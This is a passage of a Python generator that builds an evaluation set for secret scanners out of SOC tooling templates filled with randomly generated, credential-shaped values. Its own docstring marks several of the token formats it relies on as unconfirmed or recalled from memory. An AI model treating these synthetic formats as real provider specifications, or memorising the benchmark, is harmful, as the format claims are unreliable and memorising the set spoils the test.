#!/usr/bin/env python3
"""gen_fw.py - blind evaluation set for secret scanners: security-operations tooling and threat intel.

EMPHASIS
    Domain: SOC / detection-engineering / incident-response repositories: SOAR playbooks, enrichment
    scripts, SIEM forwarders, alert routing, detection-as-code, Ansible roles for agents, runbooks.
    Providers (positives): CrowdStrike Falcon (OAuth2 client secret), SentinelOne (API token),
    Microsoft Entra app secrets used for Defender / Sentinel, Microsoft Sentinel (Log Analytics
    workspace shared key), Tenable.io (access/secret key), Qualys (API user password), Rapid7
    Insight (platform API key), VirusTotal, Shodan, Censys (API id/secret), GreyNoise, AbuseIPDB,
    urlscan.io, MISP (auth key), TheHive / Cortex (API keys), Wazuh (API password, agent key,
    enrollment password, indexer TLS private key), Elastic (API keys, built-in user passwords),
    Splunk SOAR (ph-auth-token), Splunk HEC token, Tines (webhook URL with secret), Torq (webhook
    auth header), PagerDuty (Events v2 routing key, REST API key), Jira / Atlassian (API token),
    Slack (incoming webhook URL).
    File types: Python, PowerShell, Go, shell, YAML (Ansible, compose, Alertmanager, ElastAlert,
    GitHub Actions, OpenTelemetry, Kibana/Filebeat, Wazuh dashboard), JSON (playbook / story
    exports, app settings), TOML, INI / .cfg / .conf (fail2ban, Splunk .conf, fluent-bit), HOCON,
    Terraform, XML (.NET app.config), Java properties, Dockerfile, SQL, CSV, logs, KQL, Markdown
    runbooks, .env files (positives only, at most 1 in 20).

USAGE
    python3 gen_fw.py OUTDIR SEED
    Writes OUTDIR/pos/pNNNN/<relpath> (500 files), OUTDIR/neg/nNNNN/<relpath> (500 files),
    OUTDIR/manifest.jsonl (one line per file) and OUTDIR/secrets.jsonl (one line per positive).
    All randomness comes from one random.Random(SEED); output is byte-identical per SEED.
    Standard library only.

NEEDLE CONVENTIONS
    * The needle is the credential exactly as written, without surrounding quotes.
    * Key pairs (CrowdStrike client id + secret, Tenable access + secret key, Censys API id +
      secret, Qualys / Wazuh / Jira user + password-or-token): the needle is the secret half only;
      the id / user half is context. CrowdStrike client ids, Censys API ids and Entra tenant /
      client ids are identifiers and stay in negatives too.
    * Headers: only the value's secret part (for "Authorization: ApiToken X" the needle is X; for
      Tenable "X-ApiKeys: accessKey=A; secretKey=S" it is S).
    * Webhook URLs whose path is the secret (Slack incoming webhooks, Tines webhooks with the
      secret in the path): the needle is the whole URL from https:// to the end of the secret.
    * Elastic: Elasticsearch-encoded API keys -> the base64 string; Beats-style "id:api_key" ->
      the whole "id:api_key" string.
    * Connection strings / basic-auth pairs (curl -u user:pw): the password only.
    * Multi-line keys (PEM private key): the needle is the first base64 line after the BEGIN line.
    * "line" in secrets.jsonl is the 1-based line of the needle's first occurrence (asserted).

NEGATIVES
    500 files without any credential.
    * 250 re-use the positive templates with the secret slot holding a non-secret: placeholders
      (<your-api-key>, YOUR_API_KEY_HERE, changeme, xxxx..., 0000...), empty values, masked values
      (****, [REDACTED], partially masked), environment references (os.environ[...],
      os.Getenv(...), $env:X, ${X}, var.x, HOCON ${?X}), secret-manager references (op://, vault:,
      AWS Secrets Manager ARNs, Key Vault references, Tines <<CREDENTIAL.x>>), template expressions
      (Jinja/Helm/GitHub Actions), and documented example values copied from provider or
      integration docs. Companion halves of pairs (Tenable access key, ...) become env refs too.
    * 250 are look-alikes from the domain: IOC lists (MD5/SHA1/SHA256, IPs, domains, URLs), YARA
      rules with hex strings, Sigma rules (UUID ids), Elastic detection rules, CVE / MITRE ATT&CK
      tables, EDR detection exports (aid/cid/detection ids), STIX / MISP exports, Suricata rules
      and JA3 hashes, Wazuh alerts with syscheck hashes, Sysmon events, VirusTotal report JSON
      (sha256, ssdeep, tlsh, vhash), TLS fingerprints, SSH and PGP public keys, X.509
      certificates, image digests, pip --hash pins, SHA256SUMS, git SHAs, trace / request ids,
      base64-encoded benign data, public Entra tenant / client ids, PagerDuty / Slack / Jira ids.
    No negative is written to a file named .env / .env.local / .env.production (the .env
    templates become .env.example / .env.sample / .env.template).

FORMATS CHECKED (search tool, docs / pages / code corpora)
    * CrowdStrike: OAuth2 client id + client secret posted to https://api.crowdstrike.com/oauth2/token,
      clouds us-1/us-2/eu-1/us-gov-1 (falconpy / PSFalcon docs). Lengths (id 32 hex, secret 40
      alphanumerics) are NOT in the public docs (login-walled); taken from common knowledge.
    * SentinelOne: API token from My User > API Token Operations, header "Authorization: ApiToken"
      (integration guides). Token length/alphabet not documented publicly.
    * Tenable: header "X-ApiKeys: accessKey=...; secretKey=..." (docs.tenable.com); 64-hex length
      not stated in the excerpts seen.
    * VirusTotal v3: header x-apikey (docs.virustotal.com). AbuseIPDB v2: header "Key", example
      placeholder YOUR_OWN_API_KEY (docs.abuseipdb.com). GreyNoise: header "key"
      (docs.greynoise.io). urlscan.io: header "api-key" (urlscan.io docs). Shodan: ?key= query
      parameter, CLI "shodan init" (developer.shodan.io).
    * Censys: CENSYS_API_ID / CENSYS_API_SECRET, "censys config" (censys-python README).
    * MISP: automation key sent in the Authorization header (MISP OpenAPI text, pwshmisp).
    * Splunk SOAR: ph-auth-token header, token also usable as the password in
      https://:<token>@host (help.splunk.com). Splunk HEC: "Authorization: Splunk <token>".
    * Elastic: "Authorization: ApiKey <encoded>", create-API-key returns id / api_key / encoded
      (elastic.co). Beats take "id:api_key".
    * Tines: webhook URL https://<tenant>.tines.com/webhook/<path>/<secret>; query.ai docs show
      32-hex path and secret (tines.com docs, docs.query.ai).
    * Torq: webhooks https://hooks.torq.io/v1/webhooks/<uuid>, optional user-defined
      authentication headers (kb.torq.io).
    * PagerDuty Events v2: routing_key "is the 32 character Integration Key"
      (PagerDuty/developer-docs); endpoint https://events.pagerduty.com/v2/enqueue.
    * Qualys: basic auth plus mandatory X-Requested-With header, qualysapi.qualys.com, sample
      user acme_ab12 (docs.qualys.com). Wazuh: API users wazuh / wazuh-wui, password rules
      (length 8/12-64, upper, lower, digit, symbol) (documentation.wazuh.com).
    * Atlassian: API tokens used as basic-auth password with the account e-mail; docs say token
      length varies (support.atlassian.com); real code shows the ATATT3xFfGF0...=XXXXXXXX shape.
    * Slack: https://hooks.slack.com/services/T.../B.../<24 chars>, doc placeholder
      T00000000/B00000000/XXXXXXXXXXXXXXXXXXXXXXXX.
    * Microsoft Entra client secrets: GitHub issues confirm current secrets always contain "~".

DOUBTS
    * Lengths/alphabets not confirmed from provider docs: CrowdStrike secret (40 alnum),
      SentinelOne token (80 alnum legacy; JWT-shaped service-user tokens), Tenable keys (64 hex),
      VirusTotal (64 hex), Shodan (32 alnum), Censys secret (32 alnum), GreyNoise (64 alnum),
      AbuseIPDB (80 lowercase hex/alnum), urlscan (UUID), MISP (40 alnum), TheHive / Cortex (32
      chars), Rapid7 Insight key (UUID), Splunk SOAR token (44-char base64), Torq header secret
      (free-form, 40 alnum here), PagerDuty REST keys (20 chars, "u+" user tokens) and ruleset
      routing keys ("R0" + 30 upper-alnum).
    * Entra secret layout "xxx" + digit + "Q~" + 34 chars: only the "~" is confirmed.
    * Atlassian ATATT3xFfGF0 tokens: the trailing 8 hex digits are a CRC32 here, computed over
      the preceding text; the real checksum input is unknown. Legacy 24-char tokens also used.
    * Elastic documented example key (VuaCfGcBCdbkQm-e5aOx / ui2lp2axTNmsyakw9tvNnw) is quoted
      from memory of the Elasticsearch docs; the search did not return that page. Same for the
      Wazuh docs example password MyS3cr37P450r.*-, and the PagerDuty REST key example
      y_NbAkKc66ryYTWUXYEu (negatives only).
    * Search hygiene: one code-search result was a nosey-parker rule file (Atlassian token rule);
      it was not used. An "all-about-apikey" page listing key regexes (AbuseIPDB) was seen; the
      80-char AbuseIPDB length is used but treated as unconfirmed.
    * Private keys are random base64 with a plausible PKCS#8 prefix, not valid DER.
"""
import base64
import json
import os
import random
import re
import shutil
import string
import sys
import zlib
from datetime import datetime, timedelta

N_POS = 500
N_NEG = 500

UP = string.ascii_uppercase
LO = string.ascii_lowercase
DG = string.digits
ALNUM = UP + LO + DG
HEXL = "0123456789abcdef"
B64URL = ALNUM + "-_"


# ----------------------------------------------------------------------------- random helpers
def rs(r, n, alpha=ALNUM):
    return "".join(r.choice(alpha) for _ in range(n))


def hx(r, n):
    return rs(r, n, HEXL)


def uuid4(r):
    h = list(hx(r, 32))
    h[12] = "4"
    h[16] = r.choice("89ab")
    h = "".join(h)
    return "%s-%s-%s-%s-%s" % (h[:8], h[8:12], h[12:16], h[16:20], h[20:])


def rbytes(r, n):
    return bytes(r.getrandbits(8) for _ in range(n))


def b64(r, n):
    return base64.b64encode(rbytes(r, n)).decode()


def b64u_nopad(data):
    return base64.urlsafe_b64encode(data).decode().rstrip("=")


def pw(r, n, symbols="#%*+-=?@^_"):
    """Strong password: starts with a letter, holds upper, lower, digit and a symbol."""
    while True:
        s = r.choice(UP + LO) + rs(r, n - 1, ALNUM + symbols)
        if (any(c in UP for c in s) and any(c in LO for c in s) and any(c in DG for c in s)
                and any(c in symbols for c in s)):
            return s


def pick(r, seq):
    return seq[r.randrange(len(seq))]


BASE_DT = datetime(2024, 1, 8, 9, 0, 0)


def dt(r, days=420):
    return BASE_DT + timedelta(days=r.randint(0, days), seconds=r.randint(0, 86399))


def iso(r):
    return dt(r).strftime("%Y-%m-%dT%H:%M:%SZ")


def day(r):
    return dt(r).strftime("%Y-%m-%d")


PUB_OCTETS = [23, 31, 37, 45, 46, 62, 77, 80, 91, 103, 109, 141, 146, 157, 176, 178, 185, 193,
              194, 195, 212, 217]


def pub_ip(r):
    return "%d.%d.%d.%d" % (pick(r, PUB_OCTETS), r.randint(0, 255), r.randint(0, 255), r.randint(1, 254))


def int_ip(r):
    return "10.%d.%d.%d" % (r.randint(0, 40), r.randint(0, 255), r.randint(2, 250))


TENANTS = ["acme", "northwind", "globex", "initech", "umbrella-soc", "stark-ir", "wayne-sec",
           "tyrell", "hooli", "vandelay", "oscorp", "cyberdyne"]
CORP_DOMAINS = ["corp.example", "example.net", "soc.example.org", "acme-sec.example",
                "northwind.example"]
EVIL_TLDS = ["top", "xyz", "ru", "info", "click", "icu", "online", "site", "live", "biz"]
WORDS = ["update", "secure", "login", "cdn", "portal", "invoice", "docs", "verify", "mail",
         "cloud", "sync", "office", "drive", "account", "billing", "support", "auth", "files"]
HOSTS = ["web-prod-01", "db-02", "dc01", "jump-01", "k8s-node-07", "vpn-gw-1", "mail-relay",
         "fin-ws-114", "hr-lt-22", "build-agent-3", "sql-rpt-01", "edge-proxy-2"]
ANALYSTS = ["j.doe", "a.khan", "m.garcia", "l.chen", "s.okafor", "r.novak", "p.silva", "k.ito"]


def tenant(r):
    return pick(r, TENANTS)


def corp(r):
    return pick(r, CORP_DOMAINS)


def evil_domain(r):
    return "%s-%s%d.%s" % (pick(r, WORDS), pick(r, WORDS), r.randint(1, 99), pick(r, EVIL_TLDS))


def email(r):
    return "%s@%s" % (pick(r, ["soc-bot", "secops", "ir-automation", "svc-soar", "alerts"]), corp(r))


# ----------------------------------------------------------------------------- secret generators
def g_cs_id(r):
    return hx(r, 32)


def g_cs_secret(r):
    return rs(r, 40)


def jwt_like(r):
    hdr = {"kid": rs(r, 8, LO + DG), "alg": "ES256", "typ": "JWT"}
    body = {"sub": str(r.randint(10 ** 17, 10 ** 18)), "iss": "authn-us-east-1-prod",
            "deployment_id": str(r.randint(10 ** 5, 10 ** 6)), "type": "service-user",
            "exp": 1735000000 + r.randint(0, 30000000), "jti": uuid4(r)}
    return ".".join([b64u_nopad(json.dumps(hdr, separators=(",", ":")).encode()),
                     b64u_nopad(json.dumps(body, separators=(",", ":")).encode()),
                     b64u_nopad(rbytes(r, 64))])


def g_s1(r):
    return rs(r, 80) if r.random() < 0.7 else jwt_like(r)


def g_entra(r):
    return rs(r, 3) + r.choice("78") + "Q~" + rs(r, 34, ALNUM + "_.~-")


def g_hex32(r):
    return hx(r, 32)


def g_hex64(r):
    return hx(r, 64)


def g_hex80(r):
    return hx(r, 80)


def g_an32(r):
    return rs(r, 32)


def g_an40(r):
    return rs(r, 40)


def g_an64(r):
    return rs(r, 64)


def g_uuid(r):
    return uuid4(r)


def g_uuid_up(r):
    u = uuid4(r)
    return u.upper() if r.random() < 0.5 else u


def g_pw16(r):
    return pw(r, r.randint(14, 22))


def g_wazuh_pw(r):
    return pw(r, r.randint(12, 24), symbols=".+_~-^=")


def g_thehive(r):
    return rs(r, 32, ALNUM + "+/")


def g_elastic_enc(r):
    return base64.b64encode(("%s:%s" % (rs(r, 20, B64URL), rs(r, 22, B64URL))).encode()).decode()


def g_elastic_pair(r):
    return "%s:%s" % (rs(r, 20, B64URL), rs(r, 22, B64URL))


def g_elastic_pw(r):
    return pw(r, 20, symbols="*=_+-")


def g_soar(r):
    return b64(r, 32)


def g_tines_url(r):
    return "https://%s.tines.com/webhook/%s/%s" % (tenant(r), hx(r, 32), hx(r, 32))


def g_pd_routing(r):
    return hx(r, 32) if r.random() < 0.75 else "R0" + rs(r, 30, UP + DG)


def g_pd_api(r):
    return ("u+" + rs(r, 18, ALNUM + "_-")) if r.random() < 0.4 else rs(r, 20, ALNUM + "_-+")


def g_jira(r):
    if r.random() < 0.25:
        return rs(r, 24)
    head = "ATATT3xFfGF0" + rs(r, 171, B64URL)
    return "%s=%08X" % (head, zlib.crc32(head.encode()) & 0xFFFFFFFF)


def g_slack(r):
    return "https://hooks.slack.com/services/T%s/B%s/%s" % (
        rs(r, r.randint(8, 10), UP + DG), rs(r, r.randint(8, 10), UP + DG), rs(r, 24))


def g_la_key(r):
    return b64(r, 64)


def g_torq(r):
    return rs(r, 40)


def pem_body(r, nbytes=1190, prefix="MIIEvQIBADANBgkqhkiG9w0BAQEFAASCBKcwggSjAgEAAoIBAQ"):
    body = prefix + base64.b64encode(rbytes(r, nbytes)).decode()
    body = body[: 1620] if len(body) > 1620 else body
    return [body[i:i + 64] for i in range(0, len(body), 64)]


def g_pem_first(r):
    # the generator returns the whole body joined by newlines; templates print it
    return "\n".join(pem_body(r))


# ----------------------------------------------------------------------------- template machinery
CODE_LANGS = ("py", "go", "ps1", "js", "tf", "hocon")


class Expr(str):
    """A reference to an environment variable / config variable, rendered as code in code langs."""

    def __new__(cls, env, lang):
        o = str.__new__(cls, "${%s}" % env)
        o.env = env
        o.lang = lang
        return o

    def code(self, alt=0):
        e = self.env
        return {
            "py": ['os.environ["%s"]' % e, 'os.getenv("%s")' % e, 'os.environ.get("%s", "")' % e][alt % 3],
            "go": 'os.Getenv("%s")' % e,
            "ps1": "$env:%s" % e,
            "js": "process.env.%s" % e,
            "tf": "var.%s" % e.lower(),
            "hocon": "${?%s}" % e,
        }[self.lang]


class Ctx:
    def __init__(self, r, lang, neg, env):
        self.r = r
        self.lang = lang
        self.neg = neg
        self.env = env
        self.alt = r.randrange(3)

    def q(self, v):
        """Quoted literal (or the bare expression for env references in code)."""
        if isinstance(v, Expr):
            return v.code(self.alt)
        if self.lang == "ps1":
            return "'" + v + "'"
        return '"' + v + '"'

    def comp(self, real, env):
        """Companion half of a pair (access key, ...): real in positives, env ref in negatives."""
        if not self.neg:
            return real
        if self.lang in CODE_LANGS:
            return Expr(env, self.lang)
        return pick(self.r, ["${%s}" % env, "<%s>" % env.lower().replace("_", "-")])

    def envfile(self, names=(".env", ".env.local", ".env.production")):
        if self.neg:
            return pick(self.r, [".env.example", ".env.sample", ".env.template"])
        return pick(self.r, list(names))


POS = []


def P(provider, kind, lang, env, gen, style, docex=()):
    def deco(fn):
        POS.append(dict(fn=fn, provider=provider, kind=kind, lang=lang, env=env, gen=gen,
                        style=style, docex=list(docex), name=fn.__name__))
        return fn
    return deco


def fill(text, **kw):
    """Replace ⟦name⟧ markers; values are inserted verbatim (single pass)."""
    out = re.sub("⟦(\\w+)⟧", lambda m: str(kw[m.group(1)]), text)
    return out.lstrip("\n")


PLACEHOLDERS = ["<your-api-key>", "YOUR_API_KEY_HERE", "changeme", "REPLACE_ME", "<INSERT_KEY>",
                "TODO-set-me", "your_api_key", "dummy", "example-key", "<secret>", "CHANGE_ME",
                "put-your-token-here", "<token>", "xxx"]
MASKS = ["****", "********", "[REDACTED]", "<redacted>", "***REDACTED***", "[MASKED]",
         "••••••••", "(hidden)"]


def filler(r, t, secret_len):
    """Non-secret value for the secret slot of template t. Returns (value, category)."""
    env = t["env"]
    lang = t["lang"]
    low = env.lower()
    prov = t["provider"]
    cats = ["placeholder", "placeholder", "empty", "masked", "env_ref", "env_ref", "secret_ref",
            "template_expr"]
    if t["docex"]:
        cats += ["doc_example", "doc_example"]
    cat = pick(r, cats)
    if cat == "placeholder":
        k = r.randrange(4)
        if k == 0:
            return "x" * max(8, secret_len if secret_len < 90 else 32), cat
        if k == 1 and secret_len < 90:
            return "0" * secret_len, cat
        if k == 2:
            return "<%s>" % env, cat
        return pick(r, PLACEHOLDERS), cat
    if cat == "empty":
        return "", cat
    if cat == "masked":
        if r.random() < 0.3:
            return rs(r, 4, LO + DG) + "*" * 12, cat
        return pick(r, MASKS), cat
    if cat == "env_ref":
        if lang in CODE_LANGS:
            return Expr(env, lang), cat
        if lang in ("sh", "docker", "env", "md"):
            return pick(r, ["$" + env, "${%s}" % env]), cat
        if lang == "yaml":
            return pick(r, ["${%s}" % env, "${{ secrets.%s }}" % env, "{{ lookup('env', '%s') }}" % env]), cat
        return "${%s}" % env, cat
    if cat == "secret_ref":
        name = prov.replace(" ", "-")
        opts = ["op://SOC/%s/credential" % name,
                "vault:secret/data/soc/%s#%s" % (name, low),
                "arn:aws:secretsmanager:eu-west-1:%d:secret:soc/%s-%s" % (r.randint(10 ** 11, 10 ** 12 - 1), name, rs(r, 6)),
                "@Microsoft.KeyVault(SecretUri=https://kv-soc-prod.vault.azure.net/secrets/%s/)" % name,
                "<<CREDENTIAL.%s>>" % low,
                "projects/soc-prod/secrets/%s/versions/latest" % name]
        return pick(r, opts), cat
    if cat == "template_expr":
        opts = ["{{ vault_%s }}" % low, "{{ .Values.%s.apiKey }}" % prov.replace("-", ""),
                "${{ secrets.%s }}" % env, "{{ %s }}" % low, "$(params.%s)" % low]
        return pick(r, opts), cat
    return pick(r, t["docex"]), cat


# ============================================================================= positive templates
# Each template: fn(r, v, c) -> (relpath, text). v is the secret (positives) or a filler (negatives).

# ---------------------------------------------------------------- CrowdStrike Falcon
@P("crowdstrike", "client_secret", "py", "FALCON_CLIENT_SECRET", g_cs_secret, "ctor_arg")
def cs_falconpy_hosts(r, v, c):
    cloud = pick(r, ["https://api.crowdstrike.com", "https://api.us-2.crowdstrike.com", "https://api.eu-1.crowdstrike.com"])
    return pick(r, ["scripts/contain_host.py", "soar/actions/falcon_contain.py", "tools/falcon_rtr.py"]), fill('''
"""Network-contain a host in Falcon by hostname (used by the phishing playbook)."""
import argparse
import os
import sys

from falconpy import Hosts

# API client "soar-containment" (scopes: Hosts read/write)
falcon = Hosts(client_id="⟦CID⟧",
               client_secret=⟦V⟧,
               base_url="⟦CLOUD⟧")


def find_aid(hostname):
    resp = falcon.query_devices_by_filter(filter=f"hostname:'{hostname}'")
    ids = resp["body"]["resources"]
    return ids[0] if ids else None


def main():
    p = argparse.ArgumentParser()
    p.add_argument("hostname")
    args = p.parse_args()
    aid = find_aid(args.hostname)
    if not aid:
        print(f"no device named {args.hostname}", file=sys.stderr)
        sys.exit(1)
    resp = falcon.perform_action(action_name="contain", ids=[aid])
    print(resp["status_code"], resp["body"].get("errors"))


if __name__ == "__main__":
    main()
''', CID=g_cs_id(r), V=c.q(v), CLOUD=cloud)


@P("crowdstrike", "client_secret", "yaml", "FALCON_CLIENT_SECRET", g_cs_secret, "conventional")
def cs_ansible_vars(r, v, c):
    return pick(r, ["ansible/group_vars/all/falcon.yml", "inventories/prod/group_vars/linux/falcon.yml"]), fill('''
---
# crowdstrike.falcon.falcon_install role
falcon_install_method: api
falcon_cloud: ⟦CLOUD⟧
falcon_client_id: "⟦CID⟧"
falcon_client_secret: "⟦V⟧"
falcon_sensor_version_decrement: 1
falcon_sensor_update_policy_name: "Linux N-1"
falcon_tags: "soc-managed,⟦ENV⟧"
falcon_option_set: true
falcon_allow_downgrade: false
''', CLOUD=pick(r, ["us-1", "us-2", "eu-1"]), CID=g_cs_id(r), V=v, ENV=pick(r, ["prod", "dmz", "pci"]))


@P("crowdstrike", "client_secret", "ps1", "FALCON_CLIENT_SECRET", g_cs_secret, "named_param")
def cs_psfalcon(r, v, c):
    return pick(r, ["scripts/Invoke-FalconSweep.ps1", "ir/Get-FalconDetections.ps1"]), fill('''
#Requires -Modules PSFalcon
<#
.SYNOPSIS
  Pull open detections for the last 24h and export them for the daily SOC review.
#>
param(
    [string]$OutFile = ".\\detections-$(Get-Date -Format yyyyMMdd).csv"
)

$Token = @{
    ClientId     = '⟦CID⟧'
    ClientSecret = ⟦V⟧
    Cloud        = '⟦CLOUD⟧'
}
Request-FalconToken @Token

$Filter = "status:'new'+first_behavior:>'now-24h'"
Get-FalconDetection -Filter $Filter -Detailed -All |
    Select-Object detection_id, max_severity_displayname, @{n='host';e={$_.device.hostname}} |
    Export-Csv -Path $OutFile -NoTypeInformation

Revoke-FalconToken
''', CID=g_cs_id(r), V=c.q(v), CLOUD=pick(r, ["us-1", "us-2", "eu-1"]))


@P("crowdstrike", "client_secret", "tf", "FALCON_CLIENT_SECRET", g_cs_secret, "conventional")
def cs_terraform(r, v, c):
    return pick(r, ["terraform/falcon/main.tf", "infra/edr/provider.tf"]), fill('''
terraform {
  required_providers {
    crowdstrike = {
      source  = "CrowdStrike/crowdstrike"
      version = "~> 0.0.15"
    }
  }
}

provider "crowdstrike" {
  cloud         = "⟦CLOUD⟧"
  client_id     = "⟦CID⟧"
  client_secret = ⟦V⟧
}

resource "crowdstrike_sensor_update_policy" "servers" {
  name          = "servers-n-1"
  enabled       = true
  platform_name = "Linux"
  build         = "n-1"
}
''', CLOUD=pick(r, ["us-1", "us-2", "eu-1"]), CID=g_cs_id(r), V=c.q(v))


@P("crowdstrike", "client_secret", "toml", "FALCON_CLIENT_SECRET", g_cs_secret, "neutral")
def cs_toml(r, v, c):
    return pick(r, ["config/connectors.toml", "enricher/settings.toml"]), fill('''
# connectors used by the enrichment worker
[general]
poll_interval = 60
max_batch = 200

[falcon]
base_url = "https://api.⟦CLOUD⟧crowdstrike.com"
id = "⟦CID⟧"
secret = "⟦V⟧"
member_cid = ""

[misp]
url = "https://misp.⟦DOM⟧"
verify_tls = true
''', CLOUD=pick(r, ["", "us-2.", "eu-1."]), CID=g_cs_id(r), V=v, DOM=corp(r))


# ---------------------------------------------------------------- SentinelOne
@P("sentinelone", "api_token", "py", "S1_API_TOKEN", g_s1, "conventional")
def s1_py(r, v, c):
    return pick(r, ["integrations/sentinelone/client.py", "soar/s1_isolate.py"]), fill('''
import os
import requests

S1_CONSOLE = "https://⟦T⟧.sentinelone.net"
S1_API_TOKEN = ⟦V⟧

session = requests.Session()
session.headers.update({
    "Authorization": f"ApiToken {S1_API_TOKEN}",
    "Content-Type": "application/json",
})


def agents_by_name(name):
    r = session.get(f"{S1_CONSOLE}/web/api/v2.1/agents", params={"computerName": name}, timeout=30)
    r.raise_for_status()
    return r.json()["data"]


def disconnect(agent_id):
    body = {"filter": {"ids": [agent_id]}}
    return session.post(f"{S1_CONSOLE}/web/api/v2.1/agents/actions/disconnect", json=body, timeout=30)
''', T=pick(r, ["usea1-" + tenant(r), "euce1-" + tenant(r), tenant(r)]), V=c.q(v))


@P("sentinelone", "api_token", "go", "S1_API_TOKEN", g_s1, "header")
def s1_go(r, v, c):
    sv = v.code() if isinstance(v, Expr) else '"ApiToken ' + v + '"'
    if isinstance(v, Expr):
        sv = '"ApiToken " + ' + sv
    return pick(r, ["cmd/s1sync/main.go", "internal/edr/sentinelone.go"]), fill('''
package main

import (
	"encoding/json"
	"fmt"
	"net/http"
	"os"
	"time"
)

const console = "https://⟦T⟧.sentinelone.net/web/api/v2.1"

type threatsResp struct {
	Data []struct {
		ID         string `json:"id"`
		ThreatInfo struct {
			ThreatName string `json:"threatName"`
			SHA256     string `json:"sha256"`
		} `json:"threatInfo"`
	} `json:"data"`
}

func main() {
	client := &http.Client{Timeout: 20 * time.Second}
	req, _ := http.NewRequest("GET", console+"/threats?resolved=false&limit=50", nil)
	req.Header.Set("Authorization", ⟦V⟧)
	resp, err := client.Do(req)
	if err != nil {
		fmt.Fprintln(os.Stderr, err)
		os.Exit(1)
	}
	defer resp.Body.Close()
	var out threatsResp
	json.NewDecoder(resp.Body).Decode(&out)
	for _, t := range out.Data {
		fmt.Printf("%s\\t%s\\t%s\\n", t.ID, t.ThreatInfo.ThreatName, t.ThreatInfo.SHA256)
	}
}
''', T=tenant(r), V=sv)


@P("sentinelone", "api_token", "json", "S1_API_TOKEN", g_s1, "header")
def s1_json(r, v, c):
    return pick(r, ["stories/s1-threat-triage.json", "playbooks/exports/sentinelone_enrich.json"]), fill('''
{
  "schema_version": 4,
  "name": "S1 threat triage",
  "description": "Pull unresolved threats and open a ticket",
  "actions": [
    {
      "type": "http_request",
      "name": "List unresolved threats",
      "options": {
        "url": "https://⟦T⟧.sentinelone.net/web/api/v2.1/threats",
        "method": "get",
        "payload": {"resolved": "false", "limit": "25"},
        "headers": {
          "Authorization": "ApiToken ⟦V⟧",
          "Accept": "application/json"
        }
      },
      "position": {"x": 120, "y": 90}
    },
    {
      "type": "event_transform",
      "name": "Explode threats",
      "options": {"mode": "explode", "path": "=list_unresolved_threats.body.data", "to": "threat"},
      "position": {"x": 120, "y": 180}
    }
  ]
}
''', T=tenant(r), V=v)


# ---------------------------------------------------------------- Microsoft Entra / Defender / Sentinel
@P("microsoft-entra", "client_secret", "py", "AZURE_CLIENT_SECRET", g_entra, "ctor_arg")
def entra_msal(r, v, c):
    return pick(r, ["defender/advanced_hunting.py", "scripts/mde_isolate.py"]), fill('''
import os
import msal
import requests

TENANT_ID = "⟦TID⟧"
CLIENT_ID = "⟦CLID⟧"
SCOPE = ["https://api.securitycenter.microsoft.com/.default"]

app = msal.ConfidentialClientApplication(
    CLIENT_ID,
    authority=f"https://login.microsoftonline.com/{TENANT_ID}",
    client_credential=⟦V⟧,
)


def hunt(query):
    token = app.acquire_token_for_client(scopes=SCOPE)["access_token"]
    resp = requests.post(
        "https://api.securitycenter.microsoft.com/api/advancedqueries/run",
        headers={"Authorization": f"Bearer {token}"},
        json={"Query": query},
        timeout=60,
    )
    resp.raise_for_status()
    return resp.json()["Results"]


if __name__ == "__main__":
    for row in hunt("DeviceProcessEvents | where FileName =~ 'rundll32.exe' | take 20"):
        print(row["DeviceName"], row["ProcessCommandLine"])
''', TID=uuid4(r), CLID=uuid4(r), V=c.q(v))


@P("microsoft-entra", "client_secret", "ps1", "MDE_CLIENT_SECRET", g_entra, "neutral")
def entra_ps1(r, v, c):
    return pick(r, ["scripts/Get-MdeAlerts.ps1", "defender/Export-Incidents.ps1"]), fill('''
$tenantId = '⟦TID⟧'
$appId    = '⟦CLID⟧'
$appKey   = ⟦V⟧

$body = @{
    client_id     = $appId
    client_secret = $appKey
    scope         = 'https://api.securitycenter.microsoft.com/.default'
    grant_type    = 'client_credentials'
}
$auth = Invoke-RestMethod -Method Post -Uri "https://login.microsoftonline.com/$tenantId/oauth2/v2.0/token" -Body $body
$headers = @{ Authorization = "Bearer $($auth.access_token)" }

$since = (Get-Date).AddDays(-1).ToString('o')
$alerts = Invoke-RestMethod -Uri "https://api.securitycenter.microsoft.com/api/alerts?`$filter=alertCreationTime ge $since" -Headers $headers
$alerts.value | Select-Object id, severity, title, computerDnsName | Format-Table -AutoSize
''', TID=uuid4(r), CLID=uuid4(r), V=c.q(v))


@P("microsoft-entra", "client_secret", "tf", "ARM_CLIENT_SECRET", g_entra, "conventional")
def entra_tf(r, v, c):
    return pick(r, ["terraform/sentinel/providers.tf", "infra/sentinel/main.tf"]), fill('''
provider "azurerm" {
  features {}
  subscription_id = "⟦SUB⟧"
  tenant_id       = "⟦TID⟧"
  client_id       = "⟦CLID⟧"
  client_secret   = ⟦V⟧
}

resource "azurerm_sentinel_log_analytics_workspace_onboarding" "soc" {
  workspace_id = azurerm_log_analytics_workspace.soc.id
}

resource "azurerm_sentinel_alert_rule_scheduled" "impossible_travel" {
  name                       = "impossible-travel"
  log_analytics_workspace_id = azurerm_sentinel_log_analytics_workspace_onboarding.soc.workspace_id
  display_name               = "Impossible travel (custom)"
  severity                   = "Medium"
  query                      = file("${path.module}/kql/impossible_travel.kql")
}
''', SUB=uuid4(r), TID=uuid4(r), CLID=uuid4(r), V=c.q(v))


@P("microsoft-entra", "client_secret", "json", "AZURE_CLIENT_SECRET", g_entra, "conventional")
def entra_appsettings(r, v, c):
    return pick(r, ["src/SocBridge/appsettings.Production.json", "appsettings.json"]), fill('''
{
  "Logging": {
    "LogLevel": { "Default": "Information", "Microsoft.AspNetCore": "Warning" }
  },
  "AzureAd": {
    "Instance": "https://login.microsoftonline.com/",
    "TenantId": "⟦TID⟧",
    "ClientId": "⟦CLID⟧",
    "ClientSecret": "⟦V⟧"
  },
  "Sentinel": {
    "SubscriptionId": "⟦SUB⟧",
    "ResourceGroup": "rg-soc-prod",
    "WorkspaceName": "law-soc-prod"
  },
  "AllowedHosts": "*"
}
''', TID=uuid4(r), CLID=uuid4(r), V=v, SUB=uuid4(r))


@P("microsoft-entra", "client_secret", "xml", "DEFENDER_APP_SECRET", g_entra, "neutral")
def entra_xml(r, v, c):
    return pick(r, ["SocConnector/App.config", "tools/MdeExporter/app.config"]), fill('''
<?xml version="1.0" encoding="utf-8"?>
<configuration>
  <startup>
    <supportedRuntime version="v4.0" sku=".NETFramework,Version=v4.8" />
  </startup>
  <appSettings>
    <add key="TenantId" value="⟦TID⟧" />
    <add key="AppId" value="⟦CLID⟧" />
    <add key="AppKey" value="⟦V⟧" />
    <add key="ApiRoot" value="https://api.securitycenter.microsoft.com" />
